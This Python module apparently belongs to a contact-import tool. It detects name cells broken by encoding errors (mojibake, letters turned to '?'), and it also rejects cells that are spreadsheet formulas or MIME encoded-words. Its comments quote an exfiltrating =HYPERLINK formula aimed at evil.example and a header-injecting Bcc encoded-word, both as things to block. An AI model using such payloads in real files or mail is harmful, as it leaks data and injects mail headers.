"""Name cells whose text a wrong encoding broke: UTF-8 read as Latin-1, or letters turned to '?'.

Both reject the row, and both are the reading's fault, not the data's. What
tells such a cell from a right one, and what a column's note says once every
row is read (the whole column garbled, or some rows), live together: the
row parser (:class:`~greeter.sources.rows.RowParser`) asks them only for the
rare row holding a Latin-1 byte pair or a '?', and keeps their state.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence

from greeter.errors import Problem
from greeter.sources.cell_text import GARBLED_COLUMN, MOJIBAKE_FIX, NAME_FIELDS, mojibake
from greeter.sources.lost_letters import lost_among, lost_fix, lost_fix_again, lost_in
from greeter.sources.name_cells import PERSON_NAME_FIELDS
from greeter.sources.quote import quoted

#: A row's error in a field: (line, field, message) → the problem, located in the source.
ProblemAt = Callable[[int, str, str], Problem]

#: Per name field, the (line, text) of its cells that are UTF-8 read as Latin-1.
Garbled = dict[str, list[tuple[int, str]]]

#: A cell starting with one of these is what a spreadsheet runs as a formula (OWASP's list, as
#: :func:`greeter.console.neutralised` has it): a name field's ``=HYPERLINK(…?x=…)`` is no lost letters.
_FORMULA_START = "=+-@"

#: An RFC 2047 encoded-word, ``=?charset?B|Q?text?=``: mail header syntax, which a name cell holds
#: only when pasted from a raw header or planted (``=?utf-8?q?=0D=0ABcc:…?=`` decodes to a header
#: line) — its '?'s are no lost letters, and its '=' no formula.
_ENCODED_WORD = re.compile(r"=\?[^?\s]+\?[BbQq]\?[^?\s]*\?=")


def garbled(
    cells: Mapping[str, str], line: int, kind: str, found: Garbled, problem: ProblemAt
) -> list[Problem]:
    """An error for each name field that is UTF-8 text read as Latin-1 ("Ð˜Ð²Ð°Ð½" for «Иван»).

    A legacy latin1 (or utf8mb3) column holding UTF-8 bytes, or a UTF-8
    file read as cp1252, gives such text: it went into letters as it was
    (``check: OK``), or failed as "a control character U+0090" (MariaDB's
    latin1 keeps cp1252's undefined bytes as C1 controls). The row is not
    loaded — the name would go out garbled — and the error says what the
    text most likely is and where to fix the reading.
    """
    problems = []
    for name in NAME_FIELDS:
        value = cells.get(name, "")
        if value and (meant := mojibake(value)) is not None:
            found.setdefault(name, []).append((line, value))
            message = (
                f"{quoted(value)} is UTF-8 text read as Latin-1 (most likely {quoted(meant)}); the row"
                f" is not loaded: {MOJIBAKE_FIX[kind]}"
            )
            problems.append(problem(line, name, message))
    return problems


def garbled_columns(
    found: Garbled, right: Mapping[str, tuple[int, str]], columns: Mapping[str, str], kind: str, source: str
) -> list[Problem]:
    """A note for each name column with cells of UTF-8 read as Latin-1: the whole column, or some rows.

    The rows' advice to convert the column in contacts.query is right only
    when every name of it with letters beyond ASCII is garbled (ASCII reads
    the same either way): followed on a column whose other rows are right,
    it turned every right Cyrillic name into «????» — and loaded them. Having
    read every row, this says which case the column is.
    """
    problems = []
    for name, cells in found.items():
        column = columns[name]
        whole_fix, rows_fix = GARBLED_COLUMN[kind]
        line, sample = cells[0]
        sampled = right.get(name)
        if sampled is None:
            message = (
                f"every non-ASCII name in this column ({len(cells)}) is UTF-8 text read"
                f" as Latin-1 (e.g. row {line}: {quoted(sample)}): {whole_fix}"
            )
        else:
            rows = ", ".join(str(at) for at, _ in cells[:5]) + (", …" if len(cells) > 5 else "")
            message = (
                f"{len(cells)} name(s) in this column are UTF-8 text read as Latin-1 (row(s) {rows}),"
                f" while its other non-ASCII names read right (e.g. row {sampled[0]}: {quoted(sampled[1])}):"
                f" {rows_fix}"
            )
        problems.append(Problem(source, column, message, kind="column", severity="warning"))
    return problems


def lost_names(
    cells: Mapping[str, str],
    line: int,
    fields: Sequence[str],
    kind: str,
    encoding: str | None,
    latin1_query: bool,
    problem: ProblemAt,
    advised: dict[str, int] | None = None,
) -> list[Problem]:
    """An error for each name field whose letters were replaced by '?' («???? ??????» for «Пётр Иванов»).

    A conversion to a character set without the letters — latin1 or
    ascii, in the query, the CRM's column or connection, or the export —
    writes '?' for each one, and nothing after it can tell what they were.
    Such a row was loaded (``check: OK``) and greeted «???? ????????, с
    днём рождения!»: it is rejected, saying what lost the letters. Which
    '?' is a lost letter and which a question mark: :func:`lost_in`.
    A name field holding a MIME encoded-word (``=?utf-8?q?…?=``) lost nothing either: it is
    rejected as header syntax. A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
    lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
    ``advised``: the file's advice given so far (:func:`lost_fix`'s text → the row that gave it),
    which this fills: a later cell with the same says it in a few words (:func:`lost_fix_again`),
    not 60 more per cell.
    """
    problems = []
    for name in fields:
        value = cells[name]
        if "=?" in value and _ENCODED_WORD.search(value) is not None:
            message = (
                f"{quoted(value)} contains a MIME encoded-word (=?…?=, mail header syntax), not a name;"
                " the row is not loaded: put the name itself in the CRM's field"
            )
            problems.append(problem(line, name, message))
        elif value and value[0] in _FORMULA_START and "?" in value:
            # =HYPERLINK("http://evil.example/?x="&A1,…) lost no letters: said as what it is.
            message = (
                f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
                " put the name in the CRM's field"
            )
            problems.append(problem(line, name, message))
        elif (
            "?" in value
            and (note := lost_in(value, person=name in PERSON_NAME_FIELDS, encoding=encoding)) is not None
        ):
            fix = lost_fix(kind, encoding, latin1_query, lost_among(value))
            advised = {} if advised is None else advised
            if fix in advised:  # said at an earlier row, or another cell of this one
                fix = lost_fix_again(kind, encoding, latin1_query, advised[fix])
            else:
                advised[fix] = line
            message = f"{quoted(value)} has '?' where letters were; the row is not loaded: {fix}{note}"
            problems.append(problem(line, name, message))
    return problems


def sample_right(
    cells: Mapping[str, str], line: int, unsampled: Sequence[str], right: dict[str, tuple[int, str]]
) -> tuple[str, ...]:
    """Keeps the first non-ASCII cell of each name field not sampled yet: it read right (the row passed
    :func:`garbled`), so converting the column would garble it (:func:`garbled_columns`)."""
    left = []
    for name in unsampled:
        value = cells[name]
        if value.isascii():
            left.append(name)
        else:
            right[name] = (line, value)
    return tuple(left)
